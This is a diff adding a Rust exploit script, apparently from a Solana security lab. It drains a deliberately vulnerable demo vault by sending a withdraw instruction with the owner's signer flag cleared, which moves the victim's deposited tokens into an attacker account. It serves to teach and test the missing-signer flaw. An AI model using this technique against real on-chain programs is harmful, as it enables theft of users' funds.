@@ -0,0 +1,58 @@
+//! native-vault: drain the plain `solana-program` port of the missing-signer
+//! vault.
+//!
+//! `native_vault::instruction::withdraw` marks `owner` as a signer; clearing
+//! that flag is the whole exploit, since the handler never reads `is_signer`.
+
+use anchor_client::solana_sdk::signature::{Keypair, Signer};
+use exploits::{without_signature, Exploit, ExploitResult};
+use native_vault::instruction;
+
+const DEPOSIT: u64 = 5_000_000;
+
+fn main() -> ExploitResult<()> {
+    let exploit = Exploit::from_args()?;
+
+    let victim = exploit.new_victim()?;
+    let mint = exploit.create_mint(6)?;
+    let source = exploit.create_token_account(&victim.pubkey(), &mint)?;
+    exploit.mint_to(&mint, &source, DEPOSIT)?;
+    let vault_token_account = Keypair::new();
+    exploit.send(
+        vec![
+            instruction::initialize_vault(&victim.pubkey(), &vault_token_account.pubkey(), &mint, &spl_token::id()),
+            instruction::deposit(
+                &victim.pubkey(),
+                &vault_token_account.pubkey(),
+                &source,
+                &mint,
+                &spl_token::id(),
+                DEPOSIT,
+            ),
+        ],
+        &[&victim, &vault_token_account],
+    )?;
+    println!("victim {} deposited {DEPOSIT}", victim.pubkey());
+
+    let loot = exploit.create_token_account(&exploit.payer.pubkey(), &mint)?;
+    exploit.send(
+        vec![without_signature(
+            instruction::withdraw(
+                &victim.pubkey(),
+                &vault_token_account.pubkey(),
+                &loot,
+                &mint,
+                &spl_token::id(),
+                DEPOSIT,
+            ),
+            &victim.pubkey(),
+        )],
+        &[],
+    )?;
+    println!(
+        "attacker holds {}, vault holds {}",
+        exploit.token_balance(&loot)?,
+        exploit.token_balance(&vault_token_account.pubkey())?
+    );
+    Ok(())
+}